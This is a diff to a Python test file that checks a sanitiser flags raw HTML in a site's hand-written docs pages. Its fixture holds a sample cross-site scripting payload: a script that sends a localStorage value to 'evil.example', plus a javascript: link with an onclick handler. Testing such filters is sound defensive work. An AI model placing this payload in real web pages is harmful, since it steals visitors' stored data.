@@ -297,9 +297,12 @@ def test_the_allow_list_drops_each_kind_of_payload():
 
 def test_check_reports_each_field_with_raw_html_to_drop(hostile):
     folder, data = hostile
-    findings = raw_html_findings(folder)
+    everything = raw_html_findings(folder)
+    findings = [f for f in everything if f.file == "edition.yml"]
+    # The hand-written docs/ page (the same payload) is reported too, line by line.
+    assert {f.file for f in everything} == {"edition.yml", f"docs/{DOCS_PAGE}"}
     by_key = {(f.file, f.path): f for f in findings}
-    assert all(f.file == "edition.yml" and f.line > 0 for f in findings)
+    assert all(f.line > 0 for f in findings)
     body = by_key[("edition.yml", "letter.body")]
     lines = (folder / "edition.yml").read_text(encoding="utf-8").splitlines()
     assert lines[body.line - 1].lstrip().startswith("body:")
@@ -335,4 +338,39 @@ def test_check_prints_the_findings_and_still_passes(hostile, capsys):
 
 
 def test_check_finds_nothing_in_the_national_framework():
-    assert raw_html_findings(ROOT / "framework") == []
+    assert raw_html_findings(ROOT / "framework", ROOT / "docs") == []
+
+
+DOCS_PAGE_WITH_HTML = """# Our library
+
+Opening hours are below.
+
+<script>fetch("https://evil.example/?" + localStorage.kmsat)</script>
+
+Ask us: <a href="javascript:alert(1)" onclick="steal()">here</a>.
+
+```html
+<iframe src="https://evil.example/"></iframe>
+```
+
+<!-- a note for the team -->
+"""
+
+
+def test_check_reports_raw_html_in_hand_written_docs_pages_at_their_lines(tmp_path, capsys):
+    import shutil
+
+    folder = tmp_path / "edition"
+    shutil.copytree(ROOT / "tests" / "editions" / "full", folder)
+    (folder / "docs" / "hours.md").write_text(DOCS_PAGE_WITH_HTML, encoding="utf-8")
+    found = {(f.file, f.line, f.message) for f in raw_html_findings(folder)}
+    drop = "raw HTML that will be dropped: "
+    assert found == {
+        ("docs/hours.md", 5, drop + "<script> and its content"),
+        ("docs/hours.md", 7, drop + "a javascript: link"),
+        ("docs/hours.md", 7, drop + "onclick= on <a>"),
+        ("docs/hours.md", 13, drop + "an HTML comment"),
+    }  # the <iframe> in a code block is shown as code, so not dropped
+    assert cli(["check", str(folder)]) == 0  # warnings: the build drops these, it does not fail
+    err = capsys.readouterr().err
+    assert "docs/hours.md:5: warning: raw HTML that will be dropped: <script>" in err
